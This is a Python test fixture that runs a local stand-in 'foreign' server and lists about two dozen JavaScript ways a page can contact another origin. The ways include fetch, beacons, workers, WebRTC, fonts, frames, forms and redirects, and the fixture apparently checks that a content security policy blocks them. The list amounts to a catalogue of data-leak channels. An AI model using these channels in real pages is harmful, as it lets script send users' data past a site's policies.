"""Somebody else's host, which writes down what reaches it, and the ways that lead to it."""

from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from socket import AF_INET, SOCK_DGRAM, socket
from threading import Thread
from typing import Any

STAYING = {
    "fetch": "fetch(to, {mode: 'no-cors'})",
    "XMLHttpRequest": "{ const x = new XMLHttpRequest(); x.open('GET', to); x.send(); }",
    "WebSocket": "new WebSocket(to.replace('http', 'ws'))",
    "EventSource": "new EventSource(to)",
    "sendBeacon": "navigator.sendBeacon(to, 'photo')",
    "ping of a link": "Object.assign(document.createElement('a'), {href: '#', ping: to}).click()",
    "image": "new Image().src = to",
    "image of a style": "document.body.style.background = `url(${to})`",
    "style sheet": "put('link', {rel: 'stylesheet', href: to})",
    "font": "new FontFace('theirs', `url(${to})`).load()",
    "sound": "new Audio(to).load()",
    "script": "put('script', {src: to})",
    "module": "import(to)",
    "frame": "put('iframe', {src: to})",
    "object": "put('object', {data: to})",
    "prefetch": "put('link', {rel: 'prefetch', href: to})",
    "preload": "put('link', {rel: 'preload', as: 'image', href: to})",
    "fetch in a worker": "work(`fetch('${to}', {mode: 'no-cors'}).catch(() => {})`)",
    "importScripts in a worker": "work(`importScripts('${to}')`)",
    "WebRTC": """{
        const peer = new RTCPeerConnection({iceServers: [{urls: to}]});
        peer.createDataChannel("photo");
        peer.createOffer().then(offer => peer.setLocalDescription(offer));
    }""",
}
"""Ways that leave the page where it is, as JavaScript."""

LEAVING = {
    "form": """{
        const form = put("form", {action: to, method: "post"});
        form.submit();
    }""",
    "navigation": "location.href = to",
    "refresh": "put('meta', {httpEquiv: 'refresh', content: `0;url=${to}`})",
    "window.open": "open(to)",
}
"""Ways that may lead away from the page."""

TRY = """([way, to]) => {
    const put = (tag, properties) => {
        const made = Object.assign(document.createElement(tag), properties);
        document.body.append(made);
        return made;
    };
    const work = code => {
        const text = `addEventListener("securitypolicyviolation",
            e => postMessage(e.blockedURI)); try { ${code} } catch {}`;
        const inOneFile = window.site && !window.site.network;
        const address = inOneFile ? `data:text/javascript,${
            encodeURIComponent(text)}` : URL.createObjectURL(new Blob([text]));
        new Worker(address).onmessage = ({data}) => tell(data);
    };
    const tell = address => console.info(`refused: ${address}`);
    document.addEventListener("securitypolicyviolation", e => tell(e.blockedURI), {once: true});
    try { Promise.resolve(eval(`(() => { ${way} })()`)).catch(() => {}); } catch {}
}"""


class _Heard(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.server.heard.add(self.path.strip("/"))  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", "4")
        self.end_headers()
        self.wfile.write(b"Aha!")

    do_POST = do_GET  # noqa: N815

    def log_message(self, *arguments: Any) -> None:
        pass


class Stranger(ThreadingHTTPServer):
    """A host on this machine, of another origin than any page."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Heard)
        self.heard: set[str] = set()
        """The names of the ways by which something came."""
        self._udp = socket(AF_INET, SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", 0))
        for work in (self.serve_forever, self._hear_packets):
            Thread(target=work, daemon=True).start()

    def address(self, way: str) -> str:
        """Where a way is to lead; the path tells it apart."""
        if way == "WebRTC":
            return f"stun:127.0.0.1:{self._udp.getsockname()[1]}"
        return f"http://127.0.0.1:{self.server_port}/{way.replace(' ', '-')}"

    def reached_by(self, way: str) -> bool:
        return way.replace(" ", "-") in self.heard

    def is_meant(self, address: str) -> bool:
        """Tell whether an address, as a policy reports it, is one of this host."""
        return f"//127.0.0.1:{self.server_port}" in address

    def _hear_packets(self) -> None:
        while self._udp.recvfrom(2048)[0]:
            self.heard.add("WebRTC")
        self._udp.close()

    def end(self) -> None:
        self._udp.sendto(b"", self._udp.getsockname())
        self.shutdown()
        self.server_close()
